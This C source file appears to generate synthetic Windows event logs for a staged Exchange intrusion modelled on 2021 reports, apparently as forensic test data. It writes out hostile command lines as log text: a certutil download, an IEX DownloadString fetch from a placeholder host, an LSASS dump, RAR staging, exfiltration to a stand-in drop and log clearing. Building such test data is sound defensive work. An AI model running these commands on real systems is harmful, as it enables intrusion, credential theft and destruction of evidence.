/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The intrusion: what does not belong into these ten days, told in examples/README.md.
 *
 * It follows the public reports of March 2021 and advisory AA21-200A. All of it is text in log
 * records: there is no program, no script that does anything and no address that leads anywhere.
 */
#include "world.h"

#define SYSTEM_USER    "NT AUTHORITY\\SYSTEM"
#define CMD	       "C:\\Windows\\System32\\cmd.exe"
#define W3WP	       "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
#define W3WP_LINE      "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\""
#define OUTSIDE	       "203.0.113.77"  /* where they come from */
#define DROP	       "198.51.100.20" /* where the stolen files go */
#define EVENTLOG_SPACE "http://manifests.microsoft.com/win/2004/08/windows/eventlog"

/* A program that cmd.exe starts as SYSTEM on @host. */
static void run(World *w, HostId host, Instant time, const char *image, const char *command_line)
{
	const Process p = { image, command_line, SYSTEM_USER, CMD, NULL, NULL, "System" };

	(void)event_process(w, host, time, &p); /* nobody asks for its id */
}

/* A command line that the web shell hands to cmd.exe. */
static void web_shell(World *w, Instant time, const char *command)
{
	const char *line = world_text(w,
		"\"cmd\" /c cd /d \"C:/inetpub/wwwroot/aspnet_client\"&%s&echo [S]&cd&echo [E]",
		command);
	const Process p = { CMD, line, SYSTEM_USER, W3WP, W3WP_LINE, "Cmd.Exe", "System" };

	(void)event_process(w, HOST_EXCH01, time, &p); /* nobody asks for its id */
}

/* Monday, 1 March, at night: the page appears, and someone looks around. */
static void break_in(World *w)
{
	Instant t = world_time(3, 2, 14, 7);

	event_file(w, HOST_EXCH01, t, W3WP, "C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx");
	web_shell(w, t + 2 * WORLD_MINUTE, "whoami & hostname & ipconfig /all");
	web_shell(w, t + 4 * WORLD_MINUTE, "net group \"Domain Admins\" /domain");
	run(w, HOST_EXCH01, t + 4 * WORLD_MINUTE + INSTANT_SECOND, "C:\\Windows\\System32\\net.exe",
		"net  group \"Domain Admins\" /domain");
	web_shell(w, t + 6 * WORLD_MINUTE, "nltest /dclist:corp.example.com");
	run(w, HOST_EXCH01, t + 6 * WORLD_MINUTE + INSTANT_SECOND,
		"C:\\Windows\\System32\\nltest.exe", "nltest  /dclist:corp.example.com");
}

/* Tools come in; Defender is told to look away first. */
static void bring_tools(World *w)
{
	Instant t = world_time(3, 2, 41, 30);
	const char *certutil = "C:\\Windows\\System32\\certutil.exe";

	world_add(w, HOST_EXCH01, LOG_DEFENDER, 5007, t,
		fields("Product Name", "Microsoft Defender Antivirus", "Product Version",
			"4.18.2101.9", "Old Value", "", "New Value",
			"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\"
			"C:\\ProgramData = 0x0",
			NULL));
	run(w, HOST_EXCH01, t + WORLD_MINUTE, certutil,
		"certutil  -urlcache -split -f http://" OUTSIDE "/a.txt C:\\ProgramData\\a.txt");
	event_connection(w, HOST_EXCH01, t + WORLD_MINUTE + INSTANT_SECOND, certutil, SYSTEM_USER,
		OUTSIDE, 80);
	run(w, HOST_EXCH01, t + 2 * WORLD_MINUTE, certutil,
		"certutil  -decode C:\\ProgramData\\a.txt C:\\Windows\\Temp\\pd64.exe");
	event_file(w, HOST_EXCH01, t + 2 * WORLD_MINUTE + INSTANT_SECOND, certutil,
		"C:\\Windows\\Temp\\pd64.exe");
}

/* The passwords of those who are logged on. */
static void steal_credentials(World *w)
{
	Instant t = world_time(3, 2, 52, 18);
	const char *tool = "C:\\Windows\\Temp\\pd64.exe";

	event_registry(w, HOST_EXCH01, t, "C:\\Windows\\System32\\reg.exe",
		"HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\"
		"UseLogonCredential",
		"DWORD (0x00000001)");
	run(w, HOST_EXCH01, t + WORLD_MINUTE, tool,
		"pd64.exe -accepteula -ma lsass.exe C:\\ProgramData\\l.dmp");
	world_add(w, HOST_EXCH01, LOG_SYSMON, 7, t + WORLD_MINUTE + INSTANT_SECOND / 2,
		fields("RuleName", "-", "UtcTime", world_utc(w, t + WORLD_MINUTE),
			"ProcessGuid:guid", world_guid(w), "ProcessId:u32", "7312", "Image", tool,
			"ImageLoaded", "C:\\Windows\\System32\\dbghelp.dll", "FileVersion", "-",
			"Description", "Windows Image Helper", "Product", "-", "Company", "-",
			"OriginalFileName", "DBGHELP.DLL", "Hashes", "-", "Signed", "true",
			"Signature", "Microsoft Windows", "SignatureStatus", "Valid", NULL));
	world_add(w, HOST_EXCH01, LOG_SYSMON, 10, t + WORLD_MINUTE + INSTANT_SECOND,
		fields("RuleName", "-", "UtcTime", world_utc(w, t + WORLD_MINUTE),
			"SourceProcessGUID:guid", world_guid(w), "SourceProcessId:u32", "7312",
			"SourceThreadId:u32", "7320", "SourceImage", tool, "TargetProcessGUID:guid",
			world_guid(w), "TargetProcessId:u32", "640", "TargetImage",
			"C:\\Windows\\system32\\lsass.exe", "GrantedAccess:x32", "0x1fffff",
			"CallTrace",
			"C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
			"C:\\Windows\\System32\\dbghelp.dll+4a2f1",
			NULL));
	event_file(w, HOST_EXCH01, t + WORLD_MINUTE + 2 * INSTANT_SECOND, tool,
		"C:\\ProgramData\\l.dmp");
}

/* Ways to come back: encoded PowerShell, a service, a task. */
static void stay(World *w)
{
	Instant t = world_time(3, 3, 10, 2);
	/* "Write-Output 'spoor example'" in UTF-16 and Base64, behind an assignment to nothing. */
	const char *encoded = "powershell.exe -nop -w hidden -enc "
			      "JABuAD0AMAA7AFcAcgBpAHQAZQAtAE8AdQB0AHAAdQB0ACAAJwBzAHAAbwBvAHIAI"
			      "ABlAHgAYQBtAHAAbABlACcA";

	run(w, HOST_EXCH01, t, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
		encoded);
	event_powershell(w, HOST_EXCH01, t, encoded,
		"IEX (New-Object Net.WebClient).DownloadString('http://" OUTSIDE "/u')", "");
	world_add(w, HOST_EXCH01, LOG_SYSTEM, 7045, t + 8 * WORLD_MINUTE,
		fields("ServiceName", "WinDefHelper", "ImagePath",
			"C:\\Windows\\Temp\\wdh.exe -k netsvcs", "ServiceType", "user mode service",
			"StartType", "auto start", "AccountName", "LocalSystem", NULL));
	run(w, HOST_EXCH01, t + 12 * WORLD_MINUTE, "C:\\Windows\\System32\\schtasks.exe",
		"schtasks  /create /tn \\Microsoft\\Windows\\Maps\\MapsUpdate /tr "
		"C:\\ProgramData\\mu.exe /sc minute /mo 30 /ru SYSTEM /f");
	world_add(w, HOST_EXCH01, LOG_TASKS, 106, t + 12 * WORLD_MINUTE + INSTANT_SECOND,
		fields("TaskName", "\\Microsoft\\Windows\\Maps\\MapsUpdate", "UserContext",
			"CORP\\EXCH01$", NULL));
	world_add(w, HOST_EXCH01, LOG_SECURITY, 4698, t + 12 * WORLD_MINUTE + INSTANT_SECOND,
		fields("SubjectUserSid:sid", "S-1-5-18", "SubjectUserName", "EXCH01$",
			"SubjectDomainName", "CORP", "SubjectLogonId:x64", "0x3e7", "TaskName",
			"\\Microsoft\\Windows\\Maps\\MapsUpdate", "TaskContent",
			"<Task version=\"1.2\"><Actions><Exec><Command>C:\\ProgramData\\mu.exe"
			"</Command></Exec></Actions></Task>",
			NULL));
}

/* Tuesday night: an account of their own on the domain controller. */
static void new_account(World *w)
{
	Instant t = world_time(4, 1, 30, 44);
	const char *thief = world_sid(w, 1121), *new_sid = world_sid(w, 1147);

	event_logon(w, HOST_DC01, t, 20 * WORLD_MINUTE, "svc-backup", thief, 3,
		world_host(HOST_EXCH01)->link_local, TRUE);
	world_add(w, HOST_DC01, LOG_SECURITY, 4720, t + WORLD_MINUTE,
		fields("TargetUserName", "svc-update", "TargetDomainName", "CORP", "TargetSid:sid",
			new_sid, "SubjectUserSid:sid", thief, "SubjectUserName", "svc-backup",
			"SubjectDomainName", "CORP", "SubjectLogonId:x64", "0x8a11f2",
			"PrivilegeList", "-", "SamAccountName", "svc-update", NULL));
	world_add(w, HOST_DC01, LOG_SECURITY, 4732, t + 2 * WORLD_MINUTE,
		fields("MemberName", "CN=svc-update,CN=Users,DC=corp,DC=example,DC=com",
			"MemberSid:sid", new_sid, "TargetUserName", "Administrators",
			"TargetDomainName", "Builtin", "TargetSid:sid", "S-1-5-32-544",
			"SubjectUserSid:sid", thief, "SubjectUserName", "svc-backup",
			"SubjectDomainName", "CORP", "SubjectLogonId:x64", "0x8a11f2",
			"PrivilegeList", "-", NULL));
}

/* Wednesday night: the file server, packed and carried off. */
static void collect_and_send(World *w)
{
	Instant t = world_time(5, 0, 52, 9);
	const char *tool = "C:\\ProgramData\\mu.exe";

	event_logon(w, HOST_EXCH01, t, 2 * WORLD_HOUR, "svc-update", world_sid(w, 1147), 10,
		OUTSIDE, TRUE);
	event_logon(w, HOST_FS01, t + 9 * WORLD_MINUTE, WORLD_HOUR, "svc-update",
		world_sid(w, 1147), 10, world_host(HOST_EXCH01)->link_local, TRUE);
	run(w, HOST_FS01, t + 24 * WORLD_MINUTE, "C:\\ProgramData\\r.exe",
		"r.exe a -r -hpT0nic-77 -v200m C:\\ProgramData\\a.rar D:\\Shares\\research");
	event_name_query(
		w, HOST_EXCH01, t + 70 * WORLD_MINUTE, tool, "examplehiddenservice2345.onion", "-");
	event_name_query(w, HOST_EXCH01, t + 71 * WORLD_MINUTE, tool, "files.exfil.test", DROP);
	for (guint i = 0; i < 6; i++)
		event_connection(w, HOST_EXCH01, t + (71 + 4 * i) * WORLD_MINUTE, tool, SYSTEM_USER,
			DROP, 443);
}

static EvtxData *cleared(World *w, const char *channel)
{
	EvtxData *data = evtx_data_new(EVTX_USER_DATA, "LogFileCleared", EVENTLOG_SPACE);

	evtx_data_add(data, "SubjectUserSid", evtx_sid(world_sid(w, 1147)));
	evtx_data_add(data, "SubjectUserName", evtx_text("svc-update"));
	evtx_data_add(data, "SubjectDomainName", evtx_text("CORP"));
	if (channel) {
		evtx_data_add(data, "Channel", evtx_text(channel));
		evtx_data_add(data, "BackupPath", evtx_text(""));
	} else {
		evtx_data_add(data, "SubjectLogonId", evtx_uint(EVTX_HEX64, 0x91c2d0));
	}
	return data;
}

/* Thursday night: traces removed, though not all. */
static void cover_up(World *w)
{
	Instant t = world_time(6, 2, 3, 55);

	world_clear_log(w, HOST_FS01, LOG_SECURITY, t);
	world_add(w, HOST_FS01, LOG_SECURITY, 1102, t, cleared(w, NULL));
	run(w, HOST_EXCH01, t + 2 * WORLD_MINUTE, "C:\\Windows\\System32\\wevtutil.exe",
		"wevtutil  cl Microsoft-Windows-PowerShell/Operational");
	world_clear_log(w, HOST_EXCH01, LOG_POWERSHELL, t + 2 * WORLD_MINUTE);
	world_add(w, HOST_EXCH01, LOG_SYSTEM, 104, t + 2 * WORLD_MINUTE + INSTANT_SECOND,
		cleared(w, "Microsoft-Windows-PowerShell/Operational"));
}

void intrusion(World *w)
{
	break_in(w);
	bring_tools(w);
	steal_credentials(w);
	stay(w);
	new_account(w);
	collect_and_send(w);
	cover_up(w);
	/* What the logs can not tell: a hole in one, a bad spot in another. */
	world_lose(w, HOST_WS02, LOG_SECURITY, world_time(3, 20, 0, 0), world_time(6, 5, 0, 0));
	world_damage(w, HOST_DC01, LOG_SECURITY);
}
